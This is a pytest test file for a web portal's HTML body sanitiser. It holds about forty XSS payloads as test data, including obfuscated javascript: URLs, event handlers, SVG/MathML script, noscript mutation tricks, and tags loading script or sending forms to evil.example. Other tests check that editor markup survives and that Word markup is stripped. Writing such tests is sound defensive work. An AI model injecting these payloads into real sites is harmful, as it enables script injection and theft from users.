"""The body sanitiser removes every script vector and keeps the structure editors need."""

import pytest

from portal.sanitize import clean_html

# (payload, text that must not survive)
XSS_PAYLOADS = [
    ("<script>alert(1)</script>", "alert"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil.example"),
    ("<img src=x onerror=alert(1)>", "onerror"),
    ('<img src="javascript:alert(1)">', "javascript:"),
    ('<a href="javascript:alert(1)">x</a>', "javascript:"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "alert"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "alert"),
    ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>', "alert"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "data:"),
    ('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', "data:"),
    ('<a href="vbscript:msgbox(1)">x</a>', "vbscript"),
    ("<svg onload=alert(1)><circle r=1></circle></svg>", "onload"),
    ("<svg><script>alert(1)</script></svg>", "alert"),
    ("<math><mtext><script>alert(1)</script></mtext></math>", "alert"),
    ('<iframe src="https://evil.example/"></iframe>', "iframe"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "srcdoc"),
    ('<object data="evil.swf"></object>', "evil.swf"),
    ('<embed src="evil.swf">', "evil.swf"),
    ("<style>body{display:none}</style>", "display"),
    ('<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>', "position"),
    ('<p style="display:none">hidden</p>', "display"),
    ('<div style="background:url(javascript:alert(1))">x</div>', "javascript"),
    ('<p style="behavior:url(x.htc)">x</p>', "behavior"),
    ("<body onload=alert(1)>x</body>", "onload"),
    ('<div onmouseover="alert(1)">x</div>', "onmouseover"),
    ("<p onclick=alert(1)>x</p>", "onclick"),
    ('<form action="https://evil.example"><input name=q></form>', "evil.example"),
    ('<button formaction="javascript:alert(1)">x</button>', "formaction"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "refresh"),
    ('<link rel=stylesheet href="https://evil.example/x.css">', "evil.example"),
    ('<base href="https://evil.example/">', "evil.example"),
    ("<details open ontoggle=alert(1)>x</details>", "ontoggle"),
    ('<video><source onerror="alert(1)"></video>', "onerror"),
    ("<audio src=x onerror=alert(1)>", "onerror"),
    ('<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', "javascript"),
    ('<a href="https://ok.example" target="_blank" onfocus=alert(1) autofocus>x</a>', "onfocus"),
    ("<img src=x:alert(alt) onerror=eval(src) alt=0>", "onerror"),
    ("<!--<img src=x onerror=alert(1)>-->", "onerror"),
    (
        '<p>ok</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "onerror",
    ),
    ("<textarea><script>alert(1)</script></textarea>", "alert"),
    ("<template><script>alert(1)</script></template>", "alert"),
    ('<p class="MsoNormal" style="mso-line-height-rule:exactly"><o:p>Word</o:p></p>', "mso"),
]


def test_at_least_thirty_payloads_are_checked():
    """The sanitiser is tried against at least thirty XSS payloads."""
    assert len(XSS_PAYLOADS) >= 30


@pytest.mark.parametrize(("payload", "forbidden"), XSS_PAYLOADS)
def test_sanitiser_removes_xss_payload(payload, forbidden):
    """No script, event handler or dangerous URL survives the sanitiser."""
    cleaned = clean_html(payload).lower()
    assert forbidden.lower() not in cleaned
    assert "<script" not in cleaned and " on" not in cleaned.replace("noopener", "")


def test_sanitiser_keeps_structure_editors_use():
    """Headings, emphasis, lists, tables, links and images editors use survive."""
    html = (
        '<h2>标题</h2><h3>小标题</h3><p style="text-align: center">居中<strong>加粗</strong>'
        "<em>斜体</em></p><ul><li>一</li></ul><ol><li>二</li></ol><blockquote>引用</blockquote>"
        '<table><thead><tr><th>指标</th></tr></thead><tbody><tr><td colspan="2">数值</td></tr>'
        '</tbody></table><a href="https://www.gov.cn/">链接</a>'
        '<img src="/media/editor/2026/07/a.jpg" alt="图片" width="800" height="450">'
    )
    cleaned = clean_html(html)
    for fragment in (
        "<h2>标题</h2>", "<h3>小标题</h3>", "text-align:center", "<strong>加粗</strong>",
        "<em>斜体</em>", "<ul><li>一</li></ul>", "<ol><li>二</li></ol>",
        "<blockquote>引用</blockquote>", "<th>指标</th>", 'colspan="2"',
        'href="https://www.gov.cn/"', 'src="/media/editor/2026/07/a.jpg"', 'alt="图片"',
    ):  # fmt: skip
        assert fragment in cleaned, fragment


def test_pasted_word_html_is_reduced_to_plain_structure():
    """Text pasted from Word keeps its words and loses Word's markup and styles."""
    word = (
        '<p class="MsoNormal" style="margin:0cm;font-family:宋体;mso-bidi-font-family:Arial">'
        '<span lang="EN-US" style="font-size:14pt"><o:p>开发区</o:p></span></p>'
        "<!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]-->"
    )
    cleaned = clean_html(word)
    assert "开发区" in cleaned
    assert "mso" not in cleaned and "class=" not in cleaned and "font-family" not in cleaned
    assert "<xml" not in cleaned and "<o:p" not in cleaned


def test_article_body_is_sanitised_on_every_model_save(make_article):
    """Every model save sanitises the body, whatever the route."""
    article = make_article(body='<p onclick="alert(1)">正文</p><script>alert(2)</script>')
    article.refresh_from_db()
    assert article.body == "<p>正文</p>"
